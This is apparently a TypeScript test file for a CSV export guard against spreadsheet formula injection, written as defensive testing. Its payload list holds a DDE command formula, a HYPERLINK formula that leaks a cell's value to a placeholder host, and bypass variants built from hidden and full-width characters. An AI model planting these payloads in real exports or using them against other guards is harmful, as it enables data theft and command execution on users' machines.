import { expect, test } from 'vitest';
import { csvLine, tableCell, unguarded } from './csv.ts';

/** What is known to run in a spreadsheet (OWASP, CSV injection), and ways around a guard that looks at the first sign alone. */
const payloads = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://contoh.invalid?leak="&A1,"klik")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '"=1+1"',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '\u00A0@SUM(1)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "Toko;=cmd|'/C calc'!A0;x",
  'Toko\n=1+1',
  'Toko;"=1+1"',
  '-',
  '--1',
  '-1e9+0',
] as const;

/** Splits as a spreadsheet of a country does whose separator that is: quotes count at the beginning of a cell alone. */
function cellsAs(separator: string, line: string): string[] {
  const cells: string[] = [];
  for (let at = 0; at <= line.length;) {
    let cell = '';
    if (line[at] === '"') {
      at += 1;
      while (at < line.length) {
        if (line[at] === '"' && line[at + 1] !== '"') break;
        if (line[at] === '"') at += 1;
        cell += line[at];
        at += 1;
      }
      at += 1;
    }
    while (at < line.length && line[at] !== separator && line[at] !== '\n') {
      cell += line[at];
      at += 1;
    }
    cells.push(cell);
    at += 1;
  }
  return cells;
}

/** Written without looking at the guard: a cell runs when the first sign that is seen is an operator, and it is no plain number. */
function runs(cell: string): boolean {
  const seen = cell.replaceAll(/["\s\p{Cf}]/gu, '');
  return '=+-@＝＋－＠'.includes(seen[0] ?? ' ') && !Number.isFinite(Number(seen || 'x'));
}

const live = (line: string): string[] => [',', ';', '\t'].flatMap((separator) => cellsAs(separator, line).filter(runs));

test.each(payloads)('a spreadsheet of any country runs nothing of %j', (payload) => {
  expect(live(csvLine(['1', payload, payload, 'Belanja']))).toEqual([]);
});

test.each(payloads)('control: without the guard %j runs', (payload) => {
  const plain = ['1', payload, 'Belanja'].map((it) => `"${it.replaceAll('"', '""')}"`).join(',');
  const unquoted = ['1', payload, 'Belanja'].join(',');
  expect([...live(plain), ...live(unquoted)]).not.toEqual([]);
});

test.each(payloads)('a guard comes off again: %j', (payload) => {
  const [read = ''] = cellsAs(',', tableCell(payload));
  expect(unguarded(read)).toBe(payload);
});

test.each(['0.00', '-12.50', '4929865844492.00', '-1', '100', '-1.250.000', '-12,5'])(
  'a figure stays a figure: %s',
  (figure) => {
    expect(tableCell(figure).replaceAll('"', '')).toBe(figure);
  },
);

test.each(['5.1.02.01', 'Jalan A - B', "Ma'had", '2026-01-02', 'draft:3 approved:1', 'a=b', "'kutip'"])(
  'what does not run is left as it is: %s',
  (words) => {
    expect(csvLine([words])).toBe(`${words}\n`);
    expect(unguarded(words)).toBe(words);
  },
);

test('what a spreadsheet would only reckon as a number keeps its sign', () => {
  expect(csvLine(['+62811223344'])).toBe("'+62811223344\n");
});

test('a line is quoted where it must be, also for a program that separates by semicolons', () => {
  expect(csvLine(['a', 'b,c', 'd"e', 'f\ng', 'h;i'])).toBe('a,"b,c","d""e","f\ng","h;i"\n');
});
